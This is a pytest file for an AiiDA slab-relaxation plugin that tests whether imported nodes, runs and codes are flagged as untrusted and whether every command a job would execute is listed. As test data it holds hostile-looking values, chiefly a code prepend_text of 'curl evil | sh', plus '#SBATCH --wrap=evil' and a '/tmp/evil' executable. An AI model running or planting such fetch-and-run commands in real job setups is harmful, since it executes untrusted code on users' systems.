"""Who has made a node; what a run would execute; who may let it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from aiida.orm import (
    Dict,
    Group,
    ImportGroup,
    InstalledCode,
    Int,
    Node,
    User,
    WorkChainNode,
    load_node,
)
from aiida.tools import delete_nodes
from aiida.tools.archive import create_archive, import_archive
from plumpy import ProcessState

from aiida_slabrelax.engine.origin import describe_origin
from aiida_slabrelax.workflows import SlabRelaxWorkChain
from aiida_slabrelax.workflows.slab_relax.executed import (
    NotTrustedError,
    describe_executed,
    find_reasons,
)
from sample_structures import copper_slabs

Fixture = Callable[..., Any]


@pytest.fixture
def bring_back(tmp_path: Path) -> Fixture:
    """Return a function that exports a node, deletes it, and imports it again."""

    def bring(node: Node, **how: Any) -> Node:
        path, uuid = tmp_path / 'archive.aiida', node.uuid
        create_archive([node], filename=path, test_run=False)
        delete_nodes([node.pk], dry_run=False)
        import_archive(path, **how)
        return load_node(uuid)

    return bring


def test_a_node_of_ones_own() -> None:
    assert describe_origin(Int(1)) is None
    assert describe_origin(Int(1).store()) is None


def test_an_imported_node(bring_back: Fixture) -> None:
    """Its user is the same, as everybody can choose it."""
    node = bring_back(Int(1).store(), create_group=False)
    assert node.user.pk == User.collection.get_default().pk
    assert describe_origin(node) == 'imported'


def test_an_imported_node_with_a_new_hash(bring_back: Fixture) -> None:
    """As `verdi node rehash` gives it one."""
    group = ImportGroup('brought').store()
    node = bring_back(Int(1).store(), group=group)
    node.base.caching.rehash()
    assert describe_origin(node) == 'imported, group brought'
    Group.collection.delete(group.pk)
    assert describe_origin(node) is None


def test_an_archive_cannot_bring_the_hash(bring_back: Fixture) -> None:
    node = Int(1).store()
    node.base.extras.set('_aiida_hash', node.base.caching.compute_hash())
    assert describe_origin(bring_back(node, create_group=False)) == 'imported'


def test_a_node_of_another_user() -> None:
    node = Int(1, user=User(email='mallory@example.org').store()).store()
    assert describe_origin(node) == 'made by mallory@example.org'


@pytest.fixture
def killed(instantiate: Fixture, end_run: Fixture, localhost: Any) -> Fixture:
    """Return a function that makes a killed run of one slab, with other options or inputs."""

    def make(**inputs: Any) -> WorkChainNode:
        node: WorkChainNode = end_run(
            instantiate(slabs=copper_slabs(3), **inputs), ProcessState.KILLED
        )
        return node

    return make


def test_a_run_of_ones_own_asks_nothing(killed: Fixture) -> None:
    assert SlabRelaxWorkChain.get_builder_retry(killed()).slabs


def test_a_run_of_an_archive_has_to_be_trusted(killed: Fixture, bring_back: Fixture) -> None:
    run = bring_back(killed(environment={'TOKEN': 'a\x1b[2Jb'}), create_group=False)
    with pytest.raises(NotTrustedError) as refusal:
        SlabRelaxWorkChain.get_builder_retry(run)
    assert refusal.value.reasons[0] == f'SlabRelaxWorkChain<{run.pk}> was imported'
    variable = 'calc.metadata.options.environment_variables.TOKEN = a\\x1b[2Jb'
    assert variable in refusal.value.lines
    assert all(line.isprintable() for line in refusal.value.lines)
    assert SlabRelaxWorkChain.get_builder_retry(run, trusted=True).slabs


@pytest.mark.parametrize('stage', ['vasp', 'prerelax'])
def test_a_code_of_an_archive_has_to_be_trusted_in_a_run_of_ones_own(
    stage: str, killed: Fixture, bring_back: Fixture, localhost: Any
) -> None:
    code = InstalledCode(
        label='theirs',
        computer=localhost,
        filepath_executable='/bin/true',
        default_calc_job_plugin='vasp.vasp',
        prepend_text='curl evil | sh',
    ).store()
    code = bring_back(code, create_group=False)
    run = killed(prerelax={})
    inputs = SlabRelaxWorkChain.get_builder_retry(run)._inputs(prune=True)
    inputs[stage]['code'] = code
    assert find_reasons(run, inputs) == [f'code {code.full_label} was imported']
    lines = describe_executed(inputs)
    assert 'code.prepend_text = curl evil | sh' in lines
    assert 'code.filepath_executable = /bin/true' in lines


def test_all_that_a_job_executes_is_shown(
    instantiate: Fixture, vasp_code: InstalledCode, localhost: Any
) -> None:
    process = instantiate(
        slabs=copper_slabs(3),
        slab_overrides={
            'cu_3': {'calc': {'metadata': {'options': {'prepend_text': 'of one slab'}}}},
            'cu_*': {'settings': {'ADDITIONAL_RETRIEVE_LIST': ['LOCPOT']}},
        },
    )
    inputs = process.inputs
    options = {
        **inputs.vasp.calc.metadata.options,
        'prepend_text': 'first line\nsecond \x07 line',
        'append_text': 'afterwards',
        'custom_scheduler_commands': '#SBATCH --wrap=evil',
        'mpirun_extra_params': ['--oversubscribe'],
        'queue_name': 'long',
        'account': 'theirs',
        'import_sys_environment': True,
    }
    vasp = {
        **inputs.vasp,
        'calc': {'metadata': {'options': options}},
        'auto_parallel': Dict({'vasp_exe': '/tmp/evil'}),
        'monitors': {'mine': Dict({'entry_point': 'core.always_kill'})},
        'options': Dict({'prepend_text': 'deprecated'}),
    }
    lines = describe_executed({**inputs, 'vasp': vasp})
    expected = [
        f'code.filepath_executable = {vasp_code.filepath_executable}',
        f'computer {localhost.label}, uuid {localhost.uuid}',
        'computer.transport = core.local',
        'computer.shebang = #!/bin/bash',
        'calc.metadata.options.prepend_text:',
        '    first line',
        '    second \\x07 line',
        'calc.metadata.options.append_text = afterwards',
        'calc.metadata.options.custom_scheduler_commands = #SBATCH --wrap=evil',
        "calc.metadata.options.mpirun_extra_params = ['--oversubscribe']",
        'calc.metadata.options.queue_name = long',
        'calc.metadata.options.account = theirs',
        'calc.metadata.options.import_sys_environment = True',
        'calc.metadata.options.parser_name = slabrelax.vasp',
        'auto_parallel.vasp_exe = /tmp/evil',
        'monitors.mine.entry_point = core.always_kill',
        'options.prepend_text = deprecated',
        'potential_family = standin',
        'slab_overrides of cu_3.calc.metadata.options.prepend_text = of one slab',
        "slab_overrides of cu_*.settings.ADDITIONAL_RETRIEVE_LIST = ['LOCPOT']",
    ]
    assert [line for line in expected if line not in lines] == []


def test_a_code_that_means_another_one_today(killed: Fixture, vasp_code: InstalledCode) -> None:
    run = killed()
    code = InstalledCode(
        label=vasp_code.label,
        computer=vasp_code.computer,
        filepath_executable='/opt/new/vasp',
        default_calc_job_plugin='vasp.vasp',
    ).store()
    try:
        with pytest.raises(NotTrustedError) as refusal:
            SlabRelaxWorkChain.get_builder_retry(run)
        assert refusal.value.reasons == [
            f'{code.full_label} refers to another code now, <{code.pk}> in place of '
            f'<{vasp_code.pk}>'
        ]
    finally:
        delete_nodes([code.pk], dry_run=False)
